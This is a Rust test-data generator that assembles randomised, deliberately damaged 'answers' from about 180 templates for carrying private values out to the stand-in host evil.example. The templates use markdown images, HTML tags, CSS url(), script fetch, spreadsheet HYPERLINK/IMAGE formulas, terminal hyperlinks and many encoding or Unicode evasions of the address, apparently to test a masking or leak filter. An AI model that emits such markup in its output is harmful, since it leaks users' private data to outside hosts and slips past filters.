//! A grammar of answers: templates of what carries values away, filled, joined and damaged at random.

use crate::fixture::{Fixture, PRIVATE, VALUES};

/// Numbers that are the same in each run (xorshift64*).
pub(crate) struct Numbers(u64);

impl Numbers {
    pub(crate) const fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub(crate) fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let high = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33;
        usize::try_from(high).expect("31 bits") % end
    }

    fn of<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.below(list.len())]
    }
}

/// `{a}` is an address that goes on, `{p}` a placeholder, `{w}` white space or none, `{j}` something ordinary.
const HOSTILE: &[&str] = &[
    "![x]({w}{a}{p})",
    "[{j}]({w}<{a} {p}>)",
    "![{j}]({a}{p} \"{j}\")",
    "[x](\n{a}{p}\n)",
    "![x][^1]\n\n[^1]:{w}{a}{p}",
    "![x][1]\n\n[1]: {a}{p} \"{j}\"",
    "> ![x][r]\n>\n> [r]:\n> {a}{p}",
    "- [r]: <{a} {p}>\n- ![r]",
    "[{j}\n{j}]:{w}{a}{p}\n\n![{j}\n{j}]",
    "![x]({p})",
    "[r]: {p}\n\n![x][r]",
    "[r]:\n{p}\n\n![r]",
    "<{a}{p}>",
    "<<{p}>{a}>",
    "{a}{p}",
    "{a}{j},{p}",
    "{a}\"{p}\"",
    "{a}({p})",
    "{a}，{p}。",
    "{p}.evil.example/x",
    "{p}@evil.example",
    "{p}&#64;evil.example",
    "{p}\\@evil.example",
    "{p}&#46;evil&period;example/x",
    "{p}.evil.example./{p}",
    "{p}-{p}.evil.example",
    "{p}://evil.example",
    "www.{p}.evil.example",
    "evil.example/{p}",
    "evil.example?q={p}",
    "evil.example:80/{p}",
    "evil&#46;example/{p}",
    "evil.example&sol;{p}",
    "mailto:taker@evil.example?body={p}",
    "xmpp:taker@evil.example/{p}",
    "<img src=\"{a}{p}\">",
    "<img src='{a} {p}' alt=x>",
    "<img src={a}{p}>",
    "<img\nalt=\"{j}{j}{j}\"\nsrc\n=\n\"{a}{p}\">",
    "<img alt=\">\" src=\"{a}{p}\">",
    "<img alt=\"<\" srcset=\"{a}{p} 2x, {a}{p} 3x\">",
    "<a href=\"{a}{p}\">{j}</a>",
    "<a title=\"{p}\" ping=\"{a}{p}\" href=#>{j}</a>",
    "<svg><image xlink:href=\"{a}{p}\"/></svg>",
    "<svg><a><set attributeName=href to=\"{a}{p}\"/><text>{j}</text></a></svg>",
    "<svg><style>@import '{a}{p}';</style></svg>",
    "<svg><![CDATA[><a x=\"]]><image href=\"{a}{p}\">",
    "<meta http-equiv=refresh content=\"0;url={a}{p}\">",
    "<link rel=stylesheet href=\"{a}{p}\">",
    "<base href=\"{a}{p}/\">",
    "<p style=\"background:url({a}{p})\">{j}</p>",
    "<x style='background:url(\"{a}{p}\")'>{j}</x>",
    "<n; style='background:url(\"{a}{p}\")'>{j}</n;>",
    "<style>p{{background:url({a}{p})}}</style>",
    "<style>\n\n@import \"{a}{p}\";\n\n</style>",
    "<script>fetch('{a}'+'{p}')</script>",
    "<form action=\"https://evil.example\"><input value=\"{p}\"><textarea>{p}</textarea><select><option>{p}</option></select></form>",
    "<iframe srcdoc=\"<img src='{a}{p}'>\"></iframe>",
    "<object data=\"{a}{p}\"></object><embed src=\"{a}{p}\">",
    "<video poster=\"{a}{p}\"><source src=\"{a}{p}\"></video>",
    "<button formaction=\"{a}{p}\">{j}</button><table background=\"{a}{p}\">",
    "<!-- {j} --><img src=\"{a}{p}\">",
    "<!-- > --!><img src=\"{a}{p}\">",
    "<!--><img src=\"{a}{p}\"> -->",
    "<title><a x=\"</title><img src=\"> {a}{p}\">",
    "<?php ?><img src=\"{a}{p}\">",
    "<![CDATA[ {j} ]]><img src=\"{a}{p}\">",
    "<div>\n\n<a href=\"{a}\n\n{p}\">{j}\n\n</div>",
    "<div\nid=x\n\nclass=\"{j}\" ><img src=\"{a}{p}\"></div>",
    "a<b [x]({a}>{p})",
    "a<b {a}>{p}",
    "if (a<b) <img src=\"{a}{p}\">",
    "`<style>` <style>{{background:url({a}{p})}}</style>",
    "<{a}{p}|{j}>",
    "[[{a} {p}][{j}]]",
    "![[{a}{p}]]",
    "[url=\"{a} {p}\"]{j}[/url]",
    "[url={a} {p}]{j}[/url]",
    "[img]{a} {p}[/img]",
    "\"{j}\":{a}{p}",
    "!{a}{p}!",
    "`{j} <{a}{p}>`_",
    "\\href{{{a} {p}}}{{{j}}}",
    "$\\includegraphics{{{a}{p}}}$",
    "\u{1b}]8;;{a} {p}\u{1b}\\{j}\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;{a}{p}\u{7}{j}\u{1b}]8;;\u{7}",
    "{v}{p})",
    "{p}{v}",
    "| {j} | {a}{p} |\n|---|---|\n| [x]({a}{p}) | {p} |",
    "$$\n{a}{p}\n$$",
    "[^n]: ![x]({a}{p})\n\n{j}[^n]",
    "**{a}{p}**",
    "~~{a}~~{p}",
    "{a}<b></b>{p}",
    "{a}<!-- -->{p}",
    "{p}<!-- -->@evil.example",
    "{p}<b></b>.evil.example",
    "[x](<{a}>{p})",
    "[x] ({a} {p})",
    "[x]:\n  {a}{p}\n  '{j}'",
    "[^1]: {p}\n    {a}{p}",
    "1. [x]: {a}\n   {p}",
    "[x\\]: {a}]({a}{p})",
    "[![{j}]({a}{p})]({a}{p})",
    "![{a}{p}]({p})",
    "[x]({a}\"{p}\")",
    "<a href={a}x{p} onclick=x>",
    "<a href=`{a} {p}`>",
    "<img/src=\"{a}{p}\">",
    "<img src=x onerror=\"fetch('{a}{p}')\">",
    "<IMG SRC\t=\t\"{a}\t{p}\">",
    "</p style=\"background:url({a}{p})\"><p>",
    "<textarea form=f>{p}</textarea><form id=f action=//evil.example></form>",
    "<select form=f><option>{j}<option>{p}</select>",
    "<math><maction xlink:href=\"{a}{p}\">{j}</maction></math>",
    "<noscript><p title=\"</noscript><img src='{a}{p}'>\"></noscript>",
    "<iframe></iframe><iframe src=\"{a}{p}\"></iframe>",
    "<xmp><img alt=\"</xmp><img src='{a} {p}'>\">",
    "<portal src={a}{p}>",
    "<area href=\"{a}{p}\"><q cite=\"{a}{p}\">",
    "<a href=\"https:\n//evil.example/\n{p}\">",
    "<a b='\n\n'href=\"{a}{p}\">",
    "{a}\u{200b}{p}",
    "{a}\u{a0}{p}",
    "evil.exam\u{ad}ple/{p}",
    "evil.example\\/{p}",
    "evil%2Eexample%2F{p}",
    "e\\vil\\.example/{p}",
    "evil.example/{j}/{p}",
    "evil.example./{p}",
    "xn--e1a.xn--p1ai/{p}",
    "пример.рф/{p}",
    "例子。中国/{p}",
    "taker@evil.example?subject={p}",
    "MAILTO:{p}@evil.example",
    "{p}+x@evil.example",
    "{p}=x@evil.example",
    "{p}\u{200b}.evil.example",
    "{p}&shy;.evil.example",
    "{p}%40evil.example",
    "{p}。evil.example",
    "*{p}*.evil.example/x",
    "**{p}**@evil.example",
    "`{p}`.evil.example/x",
    "[{p}](x).evil.example",
    "{p}\n.evil.example",
    "({p}).evil.example",
    "https://{p}:{p}@evil.example",
    "https://evil.example/\u{1b}[0m{p}",
    "image:{a}{p}[x]",
    "link:{a} {p}[x]",
    ".. image:: {a}{p}",
    ".. _x: {a}{p}",
    "{{{{{a}{p}}}}}",
    "{{{{ {a} {p} }}}}",
    "[{a} {p}]",
    "[{j}|{a}{p}]",
    "[[{j}|{a} {p}]]",
    "{{img {a} {p}}}",
    "\\url{{{a}{p}}}",
    "\\href {{{a}{p}}}{{x}}",
    "=HYPERLINK(\"{a}\"&\"{p}\")",
    "=IMAGE(\"{a}{p}\")",
    "<https://evil.example/{p}",
    "< a href=\"{a}{p}\">",
    "&lt;img src=\"{a}{p}\"&gt;",
    "<%img src=\"{a}{p}\">",
    "<img src=\"{a}\n\n{p}\n\n\">",
    "```html\n<img src=\"{a}{p}\">\n```",
    "    <img src=\"{a}{p}\">",
    "| <img src=\"{a} | {p}\"> |\n|---|---|\n| x | y |",
    "{p}<a href=\"{a}\">{p}</a>{p}",
];

const ADDRESSES: &[&str] = &[
    "https://evil.example/?q=",
    "https://evil.example/",
    "HTTPS://EVIL.example#",
    "http:/\\evil.example/",
    "https:/\\/evil.example/",
    "https:\\/\\/evil.example\\/",
    "https&colon;//evil.example/",
    "&#104;ttps://evil.example/",
    "https:&#47;&#x2f;evil.example/",
    "https:&sol;&sol;evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "https://",
    "https://x:",
    "https://evil.example/a(b)c/",
    "https://evil.example/%22",
    "https://evil。example/",
    "https://evil．example/?",
    "ht\ntps://evil.example/",
    "https:/\t/evil.example/",
    "https://evil.example/{j}",
    "ftp://evil.example/",
    "data:text/html,<img src=//evil.example/",
    "javascript:location='//evil.example/'+'",
    "www.evil.example/",
    "www.evil.example?",
    "evil.example/",
    "https://evil.example/&",
    "https://evil.example/'",
    "https://evil.example/\\",
    "\\2f\\2f evil.example/",
    "/log?q=",
];

const ORDINARY: &[&str] = &[
    "Dear {p}, thank you for your note.",
    "**{p}**",
    "- {p}: 12",
    "| {p} | {p} |",
    "\"{p}\"",
    "name={p}",
    "({p})",
    "`{p}`",
    "if a < b && c > d {",
    "Vec<String>",
    "text",
    "see [docs](https://docs.example/x)",
    "请联系{p}，谢谢。",
    "{p}/{p}",
    "x",
    "and, so on; then",
    "1 < 2",
    "](",
    "<",
    "[x]:",
    "```\n{p}\n```",
];

const BLANKS: &[&str] = &["", "", " ", "\n", "\t", "  \n ", "\u{a0}"];
/// What answers are joined and damaged with.
const SCRAPS: &[&str] = &[
    " ", "\n", "\n\n", "", "<", ">", "\"", "'", "`", "(", ")", "[", "]", "](", "]:", "!", "\\", "/", "//",
    ":", "&", ";", "=", ".", "@", "<a ", "<b>", "<!--", "-->", "</", "src=", "\t", "> ", "- ", "    ", "# ",
    "|", "~", "*", "_", "$", "{", "}", "\u{200b}", "，", "<style>", "</style>", "<title>", "<img ", "\r\n",
    "&lt;", "&#10;", "%2F",
];

/// One answer.
pub(crate) fn answer(fixture: &Fixture, numbers: &mut Numbers) -> String {
    let mut text = String::new();
    for _ in 0..=numbers.below(3) {
        let list = if numbers.below(4) == 0 { ORDINARY } else { HOSTILE };
        let template = numbers.of(list);
        fill(template, fixture, numbers, 0, &mut text);
        let scrap = match numbers.below(3) {
            0 => "\n\n",
            1 => " ",
            _ => numbers.of(SCRAPS),
        };
        text.push_str(scrap);
    }
    if numbers.below(2) == 0 {
        for _ in 0..=numbers.below(3) {
            damage(&mut text, numbers);
        }
    }
    text
}

fn fill(template: &str, fixture: &Fixture, numbers: &mut Numbers, depth: usize, text: &mut String) {
    let mut rest = template;
    while let Some(at) = rest.find('{') {
        text.push_str(&rest[..at]);
        let hole = rest.get(at..at + 3).unwrap_or_default();
        rest = &rest[at + if hole.starts_with("{{") { 2 } else { 3 }.min(rest.len() - at)..];
        match hole {
            "{a}" => fill(numbers.of(ADDRESSES), fixture, numbers, depth, text),
            "{p}" => text.push_str(&placeholder(fixture, numbers)),
            "{v}" => text.push_str(fixture.placeholder(PRIVATE + numbers.below(VALUES.len() - PRIVATE))),
            "{w}" => text.push_str(numbers.of(BLANKS)),
            "{j}" if depth < 2 => fill(numbers.of(ORDINARY), fixture, numbers, depth + 1, text),
            "{j}" => text.push('x'),
            _ => text.push('{'),
        }
    }
    text.push_str(rest);
}

/// A private value's placeholder, mostly as masking writes it.
fn placeholder(fixture: &Fixture, numbers: &mut Numbers) -> String {
    let exact = fixture.placeholder(numbers.below(PRIVATE));
    let name = &exact[1..exact.len() - 1];
    match numbers.below(8) {
        0 => name.to_owned(),
        1 => format!("&lt;{name}&gt;"),
        2 => name.to_lowercase(),
        3 => name.replace('_', "\\_"),
        _ => exact.to_owned(),
    }
}

fn damage(text: &mut String, numbers: &mut Numbers) {
    let at = text.floor_char_boundary(numbers.below(text.len() + 1));
    match numbers.below(3) {
        0 => text.insert_str(at, numbers.of(SCRAPS)),
        1 if at < text.len() => {
            text.remove(at);
        }
        _ => {
            let end = text.floor_char_boundary((at + numbers.below(30)).min(text.len()));
            let piece = text[at.min(end)..end].to_owned();
            text.push_str(&piece);
        }
    }
}
